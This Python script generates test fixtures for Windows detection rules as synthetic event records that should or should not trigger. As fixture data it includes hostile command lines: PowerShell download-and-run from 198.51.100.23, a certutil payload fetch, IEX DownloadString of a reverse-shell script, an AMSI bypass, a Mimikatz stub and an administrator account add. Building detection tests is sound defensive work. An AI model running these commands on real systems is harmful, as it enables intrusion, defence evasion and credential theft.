#!/usr/bin/env python3
"""Rule fixtures (NXLog im_msvistalog JSON, one record per line) for the execution, persistence, defence-evasion and
command-and-control rules of issue 4: each case is a golden-corpus raw record
(detection-kb/src/test/resources/raw/nxlog/corpus_*.json) with a few fields changed. Deterministic; run from the
repository root:

    python3 sample-events/tools/gen_fixtures_exec_persist_evasion_c2.py
"""
from fixture_records import base, rec, write


def sysmon1(time, image, cmd, parent_image, parent_cmd, original=None, description=None, pid='4412', guid_tail='4412'):
    name = image.rsplit('\\', 1)[-1]
    return rec('sysmon_1', EventTime=time, UtcTime=time + '.250',
               ProcessGuid='{6f3c1a2b-8eb9-6383-b1f4-0000000%s}' % guid_tail, ProcessId=pid,
               Image=image, CommandLine=cmd, ParentImage=parent_image, ParentCommandLine=parent_cmd,
               OriginalFileName=original or name, Description=description or name)


def sec4688(time, image, cmd, parent_image):
    return rec('security_4688', EventTime=time, NewProcessName=image, CommandLine=cmd, ParentProcessName=parent_image)


PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
CMD = 'C:\\Windows\\System32\\cmd.exe'
WINWORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'
EXCEL = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE'
MSHTA = 'C:\\Windows\\System32\\mshta.exe'
WSCRIPT = 'C:\\Windows\\System32\\wscript.exe'
EXPLORER = 'C:\\Windows\\explorer.exe'
WMIPRVSE = 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe'
SCHTASKS = 'C:\\Windows\\System32\\schtasks.exe'

# --- application/defense_evasion_emet_mitigation
D = 'application/defense_evasion_emet_mitigation/'
write(D + 'match/emet1_eaf_iexplore.json', base('emet_1'))
write(D + 'match/emet2_heapspray_blocked.json', base('emet_2'))
write(D + 'match/emet1_twice_same_mitigation.ndjson', base('emet_1'),
      rec('emet_1', EventTime='2026-11-17 09:38:33', RecordNumber='5512'))
write(D + 'nomatch/emet50_service_config.json', base('emet_50'))
write(D + 'nomatch/other_provider_event_1.json',
      rec('emet_1', SourceName='Microsoft-Windows-User Profiles Service', EventID=1,
          message='Received user logon notification on session 1.'))

# --- security/defense_evasion_security_log_cleared
D = 'security/defense_evasion_security_log_cleared/'
write(D + 'match/security1102_cleared.json', base('security_1102'))
write(D + 'nomatch/security1100_service_shutdown.json',
      rec('security_1102', EventID='1100', Category='Service shutdown',
          message='The event logging service has shut down.'))

# --- system/defense_evasion_event_log_cleared
D = 'system/defense_evasion_event_log_cleared/'
write(D + 'match/system104_powershell_log_cleared.json', base('system_104'))
write(D + 'match/system104_three_logs_wevtutil.ndjson', base('system_104'),
      rec('system_104', EventTime='2026-11-17 09:36:47', RecordNumber='9904',
          message='The Microsoft-Windows-Sysmon/Operational log file was cleared.'),
      rec('system_104', EventTime='2026-11-17 09:36:48', RecordNumber='9905',
          message='The Windows PowerShell log file was cleared.'))
write(D + 'nomatch/system7036_service_state.json', base('system_7036'))

# --- registry_event/persistence_run_key_value_set
D = 'registry_event/persistence_run_key_value_set/'
write(D + 'match/sysmon13_hku_run_temp_exe.json', base('sysmon_13'))
write(D + 'match/sysmon13_hklm_wow64_runonce_default_value.json',
      rec('sysmon_13', TargetObject='HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\(Default)',
          Details='mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w hidden -c iwr 198.51.100.23"":close")'))
write(D + 'nomatch/sysmon13_runmru.json',
      rec('sysmon_13', TargetObject='HKU\\S-1-5-21-3623811015-3361044348-30300820-1107\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\a',
          Details='cmd\\1', Image=EXPLORER))
write(D + 'nomatch/sysmon13_app_settings.json',
      rec('sysmon_13', TargetObject='HKU\\S-1-5-21-3623811015-3361044348-30300820-1107\\SOFTWARE\\Microsoft\\Office\\16.0\\Word\\Options\\RunCount',
          Details='DWORD (0x0000000c)', Image=WINWORD))

# --- file_event/defense_evasion_timestomp_user_writable
D = 'file_event/defense_evasion_timestomp_user_writable/'
write(D + 'match/sysmon2_startup_lnk_2019.json', base('sysmon_2'))
write(D + 'match/sysmon2_programdata_dll.json',
      rec('sysmon_2', Image='C:\\Windows\\System32\\rundll32.exe',
          TargetFilename='C:\\ProgramData\\Microsoft\\Crypto\\msvcp_win.dll',
          CreationUtcTime='2016-07-16 13:21:11.000', PreviousCreationUtcTime='2026-11-17 09:29:58.201'))
write(D + 'nomatch/sysmon2_time_moved_forward.json',
      rec('sysmon_2', CreationUtcTime='2026-11-17 09:30:05.000', PreviousCreationUtcTime='2026-11-17 09:30:01.514'))
write(D + 'nomatch/sysmon2_program_files_installer.json',
      rec('sysmon_2', Image='C:\\Windows\\System32\\msiexec.exe',
          TargetFilename='C:\\Program Files\\7-Zip\\7z.dll'))
write(D + 'nomatch/sysmon2_chrome_profile_tmp.json',
      rec('sysmon_2', Image='C:\\Program Files (x86)\\Google\\Chrome\\Application\\chrome.exe',
          TargetFilename='C:\\Users\\jdoe\\AppData\\Local\\Google\\Chrome\\User Data\\fe823684-c940-49f2-a940-14b02cbafba9.tmp',
          CreationUtcTime='2026-11-17 09:24:12.980', PreviousCreationUtcTime='2026-11-17 09:30:07.120'))

# --- wmi_event/persistence_wmi_event_subscription
D = 'wmi_event/persistence_wmi_event_subscription/'
write(D + 'match/sysmon19_20_21_and_5861_one_subscription.ndjson',
      base('sysmon_19'), base('sysmon_20'), base('sysmon_21'),
      rec('wmi_5861', EventTime='2026-11-17 09:32:21'))
write(D + 'match/wmi5861_consumer_bound.json', base('wmi_5861'))
write(D + 'nomatch/sysmon21_binding_deleted.json', rec('sysmon_21', Operation='Deleted'))
write(D + 'nomatch/wmi5861_scm_event_log_consumer.json',
      rec('wmi_5861', message='Namespace = //./root/subscription; Eventfilter = SCM Event Log Filter (refer to its '
          'activate eventid:5859); Consumer = NTEventLogEventConsumer="SCM Event Log Consumer"; PossibleCause = '
          'Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, '
          '32, 2, 0, 0};\n\tEventNamespace = "root\\\\cimv2";\n\tName = "SCM Event Log Filter";\n\tQuery = "select * '
          'from MSFT_SCMEventLogEvent";\n\tQueryLanguage = "WQL";\n};'))

# --- system/persistence_suspicious_service_installed
D = 'system/persistence_suspicious_service_installed/'
write(D + 'match/system7045_comspec_temp.json', base('system_7045'))
write(D + 'match/security4697_and_system7045_same_install.ndjson', base('security_4697'),
      rec('system_7045', EventTime='2026-11-17 09:34:26'))
write(D + 'match/system7045_cmd_echo_named_pipe.json',
      rec('system_7045', ServiceName='zxbqmf', ImagePath='cmd.exe /c echo zxbqmf > \\\\.\\pipe\\zxbqmf'))
write(D + 'match/system7045_admin_share_binary.json',
      rec('system_7045', ServiceName='WinSvcHost32', ImagePath='\\\\FIN-WS07\\ADMIN$\\a8f3c1.exe'))
write(D + 'nomatch/system7045_program_files.json',
      rec('system_7045', ServiceName='VeeamDeploySvc', ImagePath='"C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe"'))
write(D + 'nomatch/system7045_kernel_driver.json',
      rec('system_7045', ServiceName='npcap', ImagePath='\\SystemRoot\\system32\\DRIVERS\\npcap.sys',
          ServiceType='kernel mode driver', StartType='system start'))
write(D + 'nomatch/security4697_svchost_group.json',
      rec('security_4697', ServiceName='WaaSMedicSvc', ServiceFileName='C:\\Windows\\system32\\svchost.exe -k wusvcs -p'))

# --- process_creation/persistence_scheduled_task_created
# Tasks whose action is suspicious (a shell, script host or user-writable path) are the cases of
# persistence_scheduled_task_suspicious_action (gen_fixtures_exec_persist_disc_c2_impact.py); these run an installed
# program, which only this rule reports.
D = 'process_creation/persistence_scheduled_task_created/'
SYNC = 'C:\\Program Files\\Contoso\\Sync\\syncagent.exe'
TR = '/TR "\\"' + SYNC + '\\" /background"'


def task4698(time, command, arguments):
    r = base('security_4698')
    content = r['TaskContent'].replace('C:\\Users\\jdoe\\AppData\\Local\\Temp\\updater.exe', command) \
        .replace('<Arguments>/background</Arguments>', '<Arguments>%s</Arguments>' % arguments)
    r['Message'] = r['Message'].replace(r['TaskContent'], content)
    r.update(TaskContent=content, EventTime=time, EventReceivedTime=time)
    return r


write(D + 'match/schtasks_4688_4698_106_one_task.ndjson',
      sysmon1('2026-11-17 09:34:32', SCHTASKS, 'schtasks.exe /Create /F /SC ONLOGON /TN OneDriveSync ' + TR,
              CMD, 'cmd.exe /c schtasks.exe /Create /F /SC ONLOGON /TN OneDriveSync ' + TR, original='schtasks.exe'),
      sec4688('2026-11-17 09:34:32', SCHTASKS, 'schtasks.exe /Create /F /SC ONLOGON /TN OneDriveSync ' + TR, CMD),
      task4698('2026-11-17 09:34:33', SYNC, '/background'),
      rec('taskscheduler_106', EventTime='2026-11-17 09:34:33'))
write(D + 'match/security4698_only.json', task4698('2026-11-17 09:34:33', SYNC, '/background'))
write(D + 'match/sysmon1_schtasks_quoted_folder_name.json',
      sysmon1('2026-11-17 09:40:02', SCHTASKS,
              'schtasks  /create /ru SYSTEM /sc minute /mo 30 /tn "\\Microsoft Updates\\Sync Helper" /tr "\\"' + SYNC + '\\" /sync"',
              CMD, 'cmd.exe', original='schtasks.exe'))
write(D + 'nomatch/sysmon1_schtasks_query.json',
      sysmon1('2026-11-17 09:40:02', SCHTASKS, 'schtasks /query /fo LIST /v', CMD, 'cmd.exe', original='schtasks.exe'))
write(D + 'nomatch/taskscheduler106_windows_task.json',
      rec('taskscheduler_106', TaskName='\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan'))

# --- process_creation/execution_script_host_or_office_spawns_shell
D = 'process_creation/execution_script_host_or_office_spawns_shell/'
write(D + 'match/sysmon1_winword_powershell_download.json',
      sysmon1('2026-11-17 09:41:10', PS,
              'powershell.exe -nop -w hidden -c "iwr https://198.51.100.23/a.ps1 -OutFile $env:TEMP\\a.ps1; & $env:TEMP\\a.ps1"',
              WINWORD, '"' + WINWORD + '" /n "C:\\Users\\jdoe\\Downloads\\Invoice_8841.docm" /o ""',
              original='PowerShell.EXE', description='Windows PowerShell'))
write(D + 'match/security4688_mshta_cmd.json',
      sec4688('2026-11-17 09:41:12', CMD, 'cmd.exe /c certutil -urlcache -split -f http://198.51.100.23/x.exe %TEMP%\\x.exe', MSHTA))
write(D + 'match/sysmon1_excel_wscript_and_4688_twin.ndjson',
      sysmon1('2026-11-17 09:41:20', WSCRIPT, 'wscript.exe C:\\Users\\jdoe\\AppData\\Local\\Temp\\q.vbs', EXCEL,
              '"' + EXCEL + '" "C:\\Users\\jdoe\\Downloads\\Q3.xlsm"', original='wscript.exe',
              description='Microsoft (r) Windows Based Script Host'),
      sec4688('2026-11-17 09:41:20', WSCRIPT, 'wscript.exe C:\\Users\\jdoe\\AppData\\Local\\Temp\\q.vbs', EXCEL))
write(D + 'nomatch/sysmon1_explorer_powershell.json',
      sysmon1('2026-11-17 09:41:30', PS, '"' + PS + '"', EXPLORER, EXPLORER, original='PowerShell.EXE',
              description='Windows PowerShell'))
write(D + 'nomatch/sysmon1_winword_splwow64.json',
      sysmon1('2026-11-17 09:41:31', 'C:\\Windows\\splwow64.exe', 'C:\\Windows\\splwow64.exe 12288', WINWORD,
              '"' + WINWORD + '" /n', original='splwow64.exe'))

# --- process_creation/execution_wmiprvse_spawns_shell
D = 'process_creation/execution_wmiprvse_spawns_shell/'
write(D + 'match/sysmon1_wmiprvse_powershell.json',
      sysmon1('2026-11-17 09:42:00', PS,
              'powershell.exe -NoP -c "iwr http://198.51.100.23:8080/s.ps1 -OutFile C:\\Windows\\Temp\\s.ps1"',
              WMIPRVSE, 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', original='PowerShell.EXE',
              description='Windows PowerShell'))
write(D + 'match/security4688_wmiprvse_cmd.json',
      sec4688('2026-11-17 09:42:05', CMD, 'cmd.exe /c net localgroup administrators backup_svc /add', WMIPRVSE))
write(D + 'nomatch/sysmon1_wmiprvse_wmiapsrv.json',
      sysmon1('2026-11-17 09:42:10', 'C:\\Windows\\System32\\wbem\\WmiApSrv.exe', 'C:\\Windows\\system32\\wbem\\WmiApSrv.exe',
              'C:\\Windows\\System32\\services.exe', 'C:\\Windows\\system32\\services.exe', original='WmiApSrv.exe'))
write(D + 'nomatch/sysmon1_svchost_cmd.json',
      sysmon1('2026-11-17 09:42:11', CMD, 'cmd.exe /c "C:\\Program Files\\Agent\\health.cmd"',
              'C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
              original='Cmd.Exe'))

# --- powershell/execution_malicious_script_block
D = 'powershell/execution_malicious_script_block/'


def sb(text, time='2026-11-17 09:37:14', path=''):
    return rec('powershell_4104', EventTime=time, ScriptBlockText=text, Path=path,
               message='Creating Scriptblock text (1 of 1):\r\n' + text + '\r\n\r\nScriptBlock ID: '
               'c9e7a0d5-1f3b-4e6a-9d2c-8b7a6f5e4d3c\r\nPath: ' + path)


write(D + 'match/corpus_assembly_load.json', base('powershell_4104'))
write(D + 'match/invoke_mimikatz.json',
      sb("function Invoke-Mimikatz\r\n{\r\n[CmdletBinding(DefaultParameterSetName=\"DumpCreds\")]\r\nParam(\r\n"
         "    [Parameter(Position = 0)] [String[]] $ComputerName,\r\n    [String] $Command\r\n)\r\n"))
write(D + 'match/iex_downloadstring.json',
      sb("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23:8080/Invoke-PowerShellTcp.ps1')"))
write(D + 'match/amsi_bypass.json',
      sb("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"))
write(D + 'match/xor_base64_decoder_two_blocks.ndjson',
      sb("$k = 0x5A; $b = [Convert]::FromBase64String($d); for ($i = 0; $i -lt $b.Length; $i++) { $b[$i] = $b[$i] -bxor $k }"),
      sb("$k = 0x5B; $b = [Convert]::FromBase64String($e); for ($i = 0; $i -lt $b.Length; $i++) { $b[$i] = $b[$i] -bxor $k }",
         time='2026-11-17 09:37:20'))
write(D + 'nomatch/get_childitem_report.json',
      sb("Get-ChildItem -Path C:\\Reports -Filter *.csv | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item",
         path='C:\\Scripts\\cleanup.ps1'))
write(D + 'nomatch/load_with_partial_name_and_base64.json',
      sb("[void][Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')\r\n"
         "$cfg = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:APP_CFG))\r\n"
         "$wc = New-Object Net.WebClient; $wc.DownloadFile('https://intranet.corp.example.org/app.zip', \"$env:TEMP\\app.zip\")",
         path='C:\\Program Files\\Corp\\deploy.ps1'))

# --- network_connection/command_and_control_script_host_nonstandard_port
D = 'network_connection/command_and_control_script_host_nonstandard_port/'
write(D + 'match/sysmon3_powershell_4444.json',
      rec('sysmon_3', DestinationPort='4444', DestinationPortName='-', DestinationHostname='-'))
write(D + 'match/sysmon3_mshta_8080_beacon_three.ndjson',
      *[rec('sysmon_3', EventTime='2026-11-17 09:30:%02d' % (14 + 20 * i), UtcTime='2026-11-17 09:30:%02d.275' % (14 + 20 * i),
            Image=MSHTA, DestinationPort='8080', DestinationPortName='http-alt', SourcePort=str(50112 + i),
            RecordNumber=str(48230 + i)) for i in range(3)])
# PowerShell to a public address on 443 is an alert of command_and_control_lolbin_outbound_connection: the near miss
# here is 443 to the internal proxy.
write(D + 'nomatch/sysmon3_powershell_443.json',
      rec('sysmon_3', DestinationIp='10.20.0.15', DestinationHostname='proxy.corp.example.org'))
write(D + 'nomatch/sysmon3_chrome_4444.json',
      rec('sysmon_3', Image='C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', DestinationPort='4444',
          DestinationPortName='-'))
write(D + 'nomatch/sysmon3_powershell_adws_9389.json',
      rec('sysmon_3', DestinationIp='10.20.0.10', DestinationHostname='DC01.corp.example.org', DestinationPort='9389',
          DestinationPortName='-'))
write(D + 'nomatch/sysmon3_powershell_loopback_8080.json',
      rec('sysmon_3', DestinationIp='127.0.0.1', DestinationHostname='localhost', DestinationPort='8080',
          DestinationPortName='http-alt'))
